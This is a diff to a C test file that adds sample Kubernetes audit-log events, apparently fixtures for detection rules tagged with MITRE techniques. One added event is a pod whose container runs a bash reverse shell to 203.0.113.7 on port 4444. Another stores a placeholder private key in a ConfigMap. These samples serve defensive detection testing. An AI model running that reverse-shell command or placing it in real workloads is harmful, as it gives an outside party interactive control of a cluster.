@@ -297,6 +297,14 @@ static const char *const made[] = {
 	"{'resource':'roles','namespace':'prod','name':'r'}," OK201 "}\n"
 	"{'verb':'create','stageTimestamp':'2024-05-01T10:00:10Z'," DEV ",'objectRef':"
 	"{'resource':'deployments','namespace':'prod','name':'d'}," OK201 "}",
+	/* privileged_workload T1059.004: a container started as a reverse shell */
+	"{'verb':'create'," DEV ",'objectRef':{'resource':'pods','namespace':'prod','name':"
+	"'p'}," OK201 ",'requestObject':{'spec':{'containers':[{'name':'c','image':'alpine',"
+	"'command':['sh','-c','bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']}]}}}",
+	/* configmap_credentials T1552: a private key in a ConfigMap */
+	"{'verb':'create'," DEV ",'objectRef':{'resource':'configmaps','namespace':'prod',"
+	"'name':'tls'}," OK201 ",'requestObject':{'data':{'key.pem':'-----BEGIN PRIVATE "
+	"KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----'}}}",
 	NULL
 };
 
